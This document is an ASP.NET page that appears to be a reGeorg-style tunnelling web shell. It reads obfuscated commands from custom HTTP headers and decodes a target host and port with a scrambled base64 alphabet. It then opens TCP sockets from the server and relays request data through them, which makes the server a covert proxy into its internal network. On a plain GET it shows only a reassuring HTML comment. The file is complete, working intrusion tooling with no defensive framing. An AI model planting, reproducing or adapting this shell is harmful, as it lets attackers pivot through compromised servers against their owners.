<%@ Page Language="C#" EnableSessionState="True"%>
<%@ Import Namespace="System.Net" %>
<%@ Import Namespace="System.Net.Sockets" %>
<script runat="server">
    public String StrTr(String input, String frm, String to) {
        String r = "";
        for (int i = 0; i < input.Length; i++) {
            int index = frm.IndexOf(input[i]);
            if (index != -1) r += to[index]; else r += input[i];
        }
        return r;
    }
</script>
<%
    String en = "BghwrAvOPUcM5xIEe6QqHp0bC8ZdziDWT1KkJVG4faXtL7uj2ml/o+nN3YsS9Ry";
    String de = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    try {
        if (Request.HttpMethod == "POST") {
            String cmd = Request.Headers.Get("Ffydm");
            if (cmd != null) {
                String mark = cmd.Substring(0, 22);
                cmd = cmd.Substring(22);
                if (cmd == "NewPbrCIuAKOtm") {
                    String target_ary = Encoding.Default.GetString(Convert.FromBase64String(StrTr(Request.Headers.Get("Wkpeuzb"), en, de)));
                    String[] parts = target_ary.Split('|');
                    String target = parts[0];
                    int port = int.Parse(parts[1]);
                    IPAddress ip;
                    try { ip = IPAddress.Parse(target); }
                    catch { IPHostEntry host = Dns.GetHostByName(target); ip = host.AddressList[0]; }
                    System.Net.IPEndPoint remoteEP = new IPEndPoint(ip, port);
                    Socket sender = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
                    sender.Connect(remoteEP);
                    sender.Blocking = false;
                    Application.Add(mark, sender);
                    Response.AddHeader("Rnaqj", "QdqMyIBHC0V2PPYXn2P");
                } else if (cmd == "VYTDBmpLPHmuUlk") {
                    Socket s = (Socket)Application[mark];
                    byte[] buff = Request.BinaryRead(Request.TotalBytes);
                    s.Send(buff);
                }
            }
        } else {
            Response.Write("<!-- Georg says, 'All seems fine' -->");
        }
    } catch (Exception e) {
        Response.AddHeader("Rnaqj", "xLTZ4sYRmcM");
    }
%>
